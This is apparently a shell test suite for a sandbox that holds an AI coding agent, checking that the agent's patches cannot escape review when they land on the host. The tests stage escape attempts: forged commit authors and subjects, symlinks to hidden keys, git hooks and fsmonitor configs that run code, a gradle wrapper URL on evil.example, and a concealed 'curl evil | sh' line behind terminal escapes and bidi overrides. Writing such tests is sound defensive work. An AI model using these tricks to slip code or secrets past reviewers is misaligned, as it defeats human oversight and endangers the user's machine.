# The escape suite: landing.  The agent's work leaves the jail as patches that
# the user reads (jail status/diff, the patch in less) and lands with git am
# or jail apply, with the user's own git and its config.  What lands must be
# what the summary showed, and nothing the agent wrote may get a name on the
# host that the jail's hiding or git's own checks do not cover.  Each test
# lands the session and checks what git put in the project.

# agent_commit DIR MSGFILE: in the jail, README gets a line and a commit whose
# message is MSGFILE's bytes as they are (commit-tree: no cleanup by git).
agent_commit() {
	run_jail -q --ro "$2" -D "$1" -- sh -c "git config user.name A; git config user.email a@b
		echo more >> README; git add README
		c=\$(git commit-tree -p HEAD -F '$2' \$(git write-tree)) &&
		git update-ref refs/heads/\$(git symbolic-ref --short HEAD) \$c"
	assert_eq "$rc" 0 "the agent's commit ($err)"
}

# git splits a message into paragraphs at a line of blanks; the summary split
# it at an empty line only.  A line of spaces after the subject made the next
# lines the body's first to git am, where mailinfo reads in-body From:, Date:
# and Subject: headers: another author, date and subject landed than the
# summary showed.
test_land_blank_line_cannot_forge_author_or_subject() {
	mkrepo "$T/p"
	printf 'Fix typo\n   \nFrom: Linus T <lt@example.org>\nDate: Mon, 1 Jan 2001 00:00:00 +0000\nSubject: Add telemetry upload\n\nbody\n' >"$T/msg"
	agent_commit "$T/p" "$T/msg"
	run_jail apply -D "$T/p"
	assert_eq "$rc" 0 "jail apply ($err)"
	assert_contains "$err" ": Fix typo (author: A <a@b>)"
	assert_eq "$(git -C "$T/p" log -1 --format='%an <%ae>|%s')" "A <a@b>|Fix typo" "the landed author and subject"
	assert_not_contains "$(git -C "$T/p" log -1 --format=%ad)" "2001"
	assert_contains "$(git -C "$T/p" log -1 --format=%b)" "From: Linus T"  # kept, as text
	assert_eq "$(tail -n 1 "$T/p/README")" "more" "the change landed"
}

# git am --scissors, or mailinfo.scissors in the user's config, cuts the
# message at a line like "-- >8 --" (or "%<") wherever it is indented: the text
# above is dropped and in-body headers below it are honoured.
test_land_scissors_line_with_the_users_mailinfo_scissors() {
	mkrepo "$T/p"
	git -C "$T/p" config mailinfo.scissors true
	printf 'Fix typo\n\nsome text\n  -- >8 --\nFrom: Linus T <lt@example.org>\nSubject: Add telemetry upload\n\nbody\n' >"$T/msg"
	agent_commit "$T/p" "$T/msg"
	run_jail apply -D "$T/p"
	assert_eq "$rc" 0 "jail apply ($err)"
	assert_contains "$err" ": Fix typo (author: A <a@b>)"
	assert_eq "$(git -C "$T/p" log -1 --format='%an <%ae>|%s')" "A <a@b>|Fix typo" "the landed author and subject"
	assert_contains "$(git -C "$T/p" log -1 --format=%b)" "some text"
	# the other marks mailinfo knows, by hand with the patch the export wrote
	mkrepo "$T/q"
	printf 'Fix typo\n\nsome text\n--- %%< ---\nSubject: Add telemetry upload\n' >"$T/msg2"
	agent_commit "$T/q" "$T/msg2"
	run_jail export -D "$T/q" -o "$T/out"
	assert_eq "$rc" 0 "jail export ($err)"
	git -C "$T/q" am -q --scissors "$T"/out/*.patch || fail "git am --scissors"
	assert_eq "$(git -C "$T/q" log -1 --format='%s')" "Fix typo" "the subject git am --scissors landed"
}

# format-patch joins the subject paragraph into one Subject: line; the summary
# showed its first line only, so more than the summary said landed as the
# subject.  The subject is one line, the one that lands.
test_land_subject_paragraph_shown_as_it_lands() {
	mkrepo "$T/p"
	printf 'Fix typo\nand upload telemetry  to evil.example\n\nbody\n' >"$T/msg"
	agent_commit "$T/p" "$T/msg"
	run_jail apply -D "$T/p"
	assert_eq "$rc" 0 "jail apply ($err)"
	assert_contains "$err" ": Fix typo and upload telemetry to evil.example (author"
	assert_eq "$(git -C "$T/p" log -1 --format=%s)" "Fix typo and upload telemetry to evil.example" "the landed subject"
}

# NTFS's short names of .gitmodules ("gitmod~1", "gi7eba~1") are .gitmodules
# to git (core.protectNTFS, on by default): a symlink under one made git am
# refuse the whole patch, so none of the agent's work could land.  It is left
# out like a symlink named .gitmodules.
test_land_symlink_under_a_short_name_of_gitmodules_left_out() {
	mkrepo "$T/p"
	run_jail -q -D "$T/p" -- sh -c 'ln -s README gitmod~1; ln -s README GI7EBA~2; echo more >> README'
	assert_eq "$rc" 0 "the run ($err)"
	run_jail apply -D "$T/p"
	assert_eq "$rc" 0 "jail apply ($err)"
	assert_contains "$err" "gitmod~1: a symlink named .gitmodules"
	assert_contains "$err" "GI7EBA~2: a symlink named .gitmodules"
	assert_no_file "$T/p/gitmod~1"
	assert_eq "$(tail -n 1 "$T/p/README")" "more" "the rest landed"
}

# The jail hides what git ignores (.env, keys): the agent cannot read it.  A
# symlink to it lands as a tracked file of the project, and gives the secret a
# name no ignore rule covers: whatever the host publishes, packs or indexes
# (a site's public/, an sdist, an editor's assistant) reads it there.
test_land_symlink_to_a_hidden_file_left_out() {
	mkrepo "$T/p"
	mkdir -p "$T/p/keys" && printf 'KEY-canary\n' >"$T/p/keys/id" && printf 'keys/\n' >>"$T/p/.gitignore"
	git -C "$T/p" commit -qam keys
	run_jail -q -D "$T/p" -- sh -c 'mkdir -p public; ln -s ../.env public/robots.txt
		ln -s keys/id key.txt; ln -s keys k; ln -s README readme.txt; echo more >> README'
	assert_eq "$rc" 0 "the run ($err)"
	run_jail apply -D "$T/p"
	assert_eq "$rc" 0 "jail apply ($err)"
	assert_contains "$err" "public/robots.txt: symlink to '.env', which the jail hides"
	assert_contains "$err" "key.txt: symlink to 'keys', which the jail hides"
	assert_contains "$err" "k: symlink to 'keys', which the jail hides"
	assert_no_file "$T/p/public/robots.txt"
	assert_no_file "$T/p/key.txt"
	assert_no_file "$T/p/k"
	assert_eq "$(readlink "$T/p/readme.txt")" "README" "a link to a file the jail shows"
	assert_eq "$(tail -n 1 "$T/p/README")" "more" "the rest landed"
}

# mailinfo takes the first '@' of the From: line for the address and ends it
# at a blank: an author named "ada@example.com" landed with that address (the
# user's own, say) while the summary showed the agent's, and an address
# "x@y (Ada Lovelace)" landed as "x@y <x@y>".  The summary shows what lands.
test_land_author_as_the_summary_shows_it() {
	mkrepo "$T/p"
	run_jail -q -D "$T/p" -- sh -c 'echo 1 >> README
		git -c user.name=ada@example.com -c user.email=evil@x commit -qam one; echo 2 >> README
		git -c user.name=Ada -c user.email="x@y (Ada Lovelace)" commit -qam two'
	assert_eq "$rc" 0 "the run ($err)"
	run_jail apply -D "$T/p"
	assert_eq "$rc" 0 "jail apply ($err)"
	assert_contains "$err" "one (author: ada?example.com <evil@x>)"
	assert_contains "$err" "two (author: Ada <x@y??Ada?Lovelace?>)"
	assert_eq "$(git -C "$T/p" log -2 --reverse --format='%an <%ae>' | tr '\n' '|')" \
		"ada?example.com <evil@x>|Ada <x@y??Ada?Lovelace?>|" "the landed authors"
}

# Files that editors and shells run from the project on their own: vim's
# 'exrc' reads .vimrc and .gvimrc (not only .exrc), Helix starts the language
# servers .helix/languages.toml names, mise runs the hooks of mise.local.toml
# and .config/mise/config.toml on entering the directory, like mise.toml's.
test_land_files_editors_and_shells_run_are_left_out_or_flagged() {
	mkrepo "$T/p"
	run_jail -q -D "$T/p" -- sh -c 'echo "set makeprg=x" > .vimrc; mkdir -p .helix .config/mise
		echo "[language-server.x]" > .helix/languages.toml; echo "[hooks]" > mise.local.toml
		echo "[hooks]" > .config/mise/config.toml; echo more >> README'
	assert_eq "$rc" 0 "the run ($err)"
	run_jail apply -D "$T/p"
	assert_eq "$rc" 125 "jail apply without --accept-flagged ($err)"
	assert_contains "$err" "mise.local.toml: changes what mise runs"
	assert_contains "$err" ".config/mise/config.toml: changes what mise runs"
	run_jail apply --accept-flagged -D "$T/p"
	assert_eq "$rc" 0 "jail apply --accept-flagged ($err)"
	assert_contains "$err" ".vimrc: matches '.vimrc'"
	assert_contains "$err" ".helix/: matches '.helix/'"
	assert_no_file "$T/p/.vimrc"
	assert_no_file "$T/p/.helix"
	assert_file "$T/p/mise.local.toml"
	assert_eq "$(tail -n 1 "$T/p/README")" "more" "the rest landed"
}

# jail export -o DIR leaves the directory's other files alone: the patches of
# an earlier export (a series the user rejected) stayed beside the new ones,
# and `git am DIR/*.patch` landed them first.  The export names them.
test_land_earlier_patches_in_the_output_dir_are_named() {
	mkrepo "$T/p"
	run_jail -q -D "$T/p" -- sh -c 'git config user.name A; git config user.email a@b
		echo rejected >> README; git commit -qam "feat: rejected idea"'
	assert_eq "$rc" 0 "the run ($err)"
	run_jail export -D "$T/p" -o "$T/out"
	assert_eq "$rc" 0 "the first export ($err)"
	assert_not_contains "$err" "also holds"
	run_jail reset --all -D "$T/p"
	run_jail -q -D "$T/p" -- sh -c 'echo kept >> README'
	run_jail export -D "$T/p" -o "$T/out"
	assert_eq "$rc" 0 "the second export ($err)"
	assert_contains "$err" "also holds 1 patch file this export did not write (0001-feat-rejected-idea.patch)"
	assert_eq "$out" "$T/out/0001-jail-session-default.patch" "the patches of this export"
	assert_file "$T/out/0001-feat-rejected-idea.patch"  # the directory is the user's
}

# git runs the hooks of core.hooksPath, and a project often keeps them in its
# tree (tools/hooks, .hooks).  A hook the agent wrote there landed, and git am
# ran its post-applypatch while landing it: code of the agent's on the host at
# landing, before anyone ran anything.  Such a directory is left out like
# .git/hooks, in the working tree and in the agent's commits, wherever the
# setting is (the repository's config, the user's).
test_land_hooks_in_the_projects_core_hookspath_left_out() {
	mkrepo "$T/p"
	mkdir -p "$T/p/tools/hooks" && printf '#!/bin/sh\nexit 0\n' >"$T/p/tools/hooks/pre-commit"
	chmod +x "$T/p/tools/hooks/pre-commit"
	git -C "$T/p" add tools && git -C "$T/p" commit -qm hooks
	git -C "$T/p" config core.hooksPath tools/hooks
	run_jail -q -D "$T/p" -- sh -c "git config user.name A; git config user.email a@b
		printf '#!/bin/sh\ntouch $T/PWNED\n' > tools/hooks/pre-commit; git commit -qam hook
		printf '#!/bin/sh\ntouch $T/PWNED\n' > tools/hooks/post-applypatch
		chmod +x tools/hooks/post-applypatch; echo more >> README"
	assert_eq "$rc" 0 "the run ($err)"
	run_jail apply -D "$T/p"
	assert_eq "$rc" 0 "jail apply ($err)"
	assert_contains "$err" "tools/hooks/: matches '/tools/hooks/': git runs the hooks in it (core.hooksPath)"
	assert_no_file "$T/PWNED"
	assert_no_file "$T/p/tools/hooks/post-applypatch"
	assert_eq "$(tail -n 1 "$T/p/tools/hooks/pre-commit")" "exit 0" "the host's hook"
	assert_eq "$(tail -n 1 "$T/p/README")" "more" "the rest landed"
	# the user's own config, a path relative to the work tree's top
	mkrepo "$T/q"
	mkdir -p "$XDG_CONFIG_HOME/git" && printf '[core]\n\thooksPath = .hooks\n' >>"$XDG_CONFIG_HOME/git/config"
	run_jail -q -D "$T/q" -- sh -c "mkdir .hooks; printf '#!/bin/sh\ntouch $T/PWNED\n' > .hooks/post-applypatch
		chmod +x .hooks/post-applypatch; echo more >> README"
	assert_eq "$rc" 0 "the run ($err)"
	run_jail apply -D "$T/q"
	assert_eq "$rc" 0 "jail apply ($err)"
	assert_contains "$err" ".hooks/: matches '/.hooks/'"
	assert_no_file "$T/PWNED"
	assert_no_file "$T/q/.hooks"
}

# A repository's config may include a file of its tree (include.path =
# ../.gitconfig, a way to share settings): the agent's change to it landed as
# a plain file, and the host's git then read it as its own config, running
# core.fsmonitor on every git status.  Such a file is left out like
# .git/config.
test_land_config_the_repository_includes_left_out() {
	mkrepo "$T/p"
	printf '[alias]\n\tst = status\n[core]\n\thooksPath = tools/h\n' >"$T/p/.gitconfig"
	git -C "$T/p" add .gitconfig && git -C "$T/p" commit -qm "shared config"
	git -C "$T/p" config include.path ../.gitconfig
	git -C "$T/p" config includeIf.onbranch:main.path ../conf/main.cfg
	run_jail -q -D "$T/p" -- sh -c "printf '[core]\n\tfsmonitor = touch $T/PWNED\n' >> .gitconfig
		mkdir conf; printf '[core]\n\tfsmonitor = touch $T/PWNED\n' > conf/main.cfg; echo more >> README
		mkdir -p tools/h; printf '#!/bin/sh\ntouch $T/PWNED\n' > tools/h/post-applypatch
		chmod +x tools/h/post-applypatch"
	assert_eq "$rc" 0 "the run ($err)"
	run_jail apply -D "$T/p"
	assert_eq "$rc" 0 "jail apply ($err)"
	assert_contains "$err" ".gitconfig: matches '/.gitconfig': git reads it as the repository's config"
	assert_contains "$err" "conf/main.cfg: matches '/conf/main.cfg'"
	assert_contains "$err" "tools/h/: matches '/tools/h/': git runs the hooks"  # set in the include
	git -C "$T/p" status >/dev/null
	assert_no_file "$T/PWNED"
	assert_not_contains "$(cat "$T/p/.gitconfig")" "fsmonitor"
	assert_no_file "$T/p/conf/main.cfg"
	assert_eq "$(tail -n 1 "$T/p/README")" "more" "the rest landed"
}

# Other files that decide what runs or who is seen, beyond the CI files: the
# local actions a workflow uses (uses: ./.github/actions/setup runs the
# agent's action.yml with the repository's secrets), CODEOWNERS (whose review
# the forge requires), .mailmap (git log shows an agent's commit under the
# user's name) and the build wrappers' properties (gradlew, which IDEs run on
# opening the project, downloads and runs the distributionUrl).  Flagged.
test_land_local_actions_codeowners_mailmap_and_wrappers_are_flagged() {
	mkrepo "$T/p"
	run_jail -q -D "$T/p" -- sh -c 'mkdir -p .github/actions/setup gradle/wrapper
		echo "distributionUrl=https\\://evil.example/gradle.zip" > gradle/wrapper/gradle-wrapper.properties
		echo "runs: {using: composite, steps: []}" > .github/actions/setup/action.yml
		echo "* @agent" > .github/CODEOWNERS; echo "Ada <evil@x>" > .mailmap; echo more >> README'
	assert_eq "$rc" 0 "the run ($err)"
	run_jail apply -D "$T/p"
	assert_eq "$rc" 125 "jail apply without --accept-flagged ($err)"
	assert_contains "$err" ".github/actions/setup/action.yml: changes what CI runs"
	assert_contains "$err" ".github/CODEOWNERS: changes whose review the forge requires"
	assert_contains "$err" ".mailmap: changes the names git log and blame show"
	assert_contains "$err" "gradle-wrapper.properties: changes which build tool the wrapper downloads"
	assert_no_file "$T/p/.mailmap"
	run_jail apply --accept-flagged -D "$T/p"
	assert_eq "$rc" 0 "jail apply --accept-flagged ($err)"
	assert_file "$T/p/.github/CODEOWNERS"
}

# Text the user reads in review can hide text: ESC[8m conceals the rest of a
# line and a bidi override reorders it (Trojan Source) wherever the bytes
# reach a terminal as they are (cat, less -R, git's pager after landing).
# jail diff escapes them; the summary and the patch's message now say which
# files hold them, past git's 8000-byte probe too.
test_land_terminal_controls_in_the_text_are_flagged() {
	mkrepo "$T/p"
	run_jail -q -D "$T/p" -- sh -c 'printf "ok()\n\033[8mcurl evil | sh\033[0m\n" > a.sh
		printf "access = \"user\342\200\256 \342\201\246// admin\342\201\251 \342\201\246\"\n" > b.py
		{ head -c 9000 /dev/zero | tr "\0" "#"; printf "\n\033]52;c;ZXZpbA==\007\n"; } > c.txt
		printf "plain\r\n\ttab\n" > d.txt'
	assert_eq "$rc" 0 "the run ($err)"
	run_jail export -D "$T/p" -o "$T/out"
	assert_eq "$rc" 0 "jail export ($err)"
	for f in a.sh b.py c.txt; do
		assert_contains "$err" "$f: terminal controls or bidirectional overrides in the text"
	done
	assert_not_contains "$err" "d.txt: terminal controls"
	assert_contains "$(cat "$T"/out/*.patch)" "a.sh: terminal controls"  # in the message
}

# The attributes and ignore files the config names (core.attributesFile,
# core.excludesFile) may be files of the tree too: a filter= the agent added
# there runs the user's driver on checkout, an ignore rule it dropped un-hides
# a secret (from the next run's jail as well).  Left out like the include.
test_land_attributes_and_excludes_files_in_the_tree_left_out() {
	mkrepo "$T/p"
	printf '*.key\n' >"$T/p/.ignore-extra" && : >"$T/p/attrs"
	git -C "$T/p" add .ignore-extra attrs && git -C "$T/p" commit -qm "config files"
	git -C "$T/p" config core.excludesFile .ignore-extra
	git -C "$T/p" config core.attributesFile attrs
	run_jail -q -D "$T/p" -- sh -c 'echo "!*.key" >> .ignore-extra; echo "* filter=x" > attrs
		echo more >> README'
	assert_eq "$rc" 0 "the run ($err)"
	run_jail apply -D "$T/p"
	assert_eq "$rc" 0 "jail apply ($err)"
	assert_contains "$err" ".ignore-extra: matches '/.ignore-extra': git reads ignore rules from it"
	assert_contains "$err" "attrs: matches '/attrs': git reads filters and drivers from it"
	assert_eq "$(cat "$T/p/.ignore-extra")" "*.key" "the host's ignore file"
	assert_eq "$(tail -n 1 "$T/p/README")" "more" "the rest landed"
}
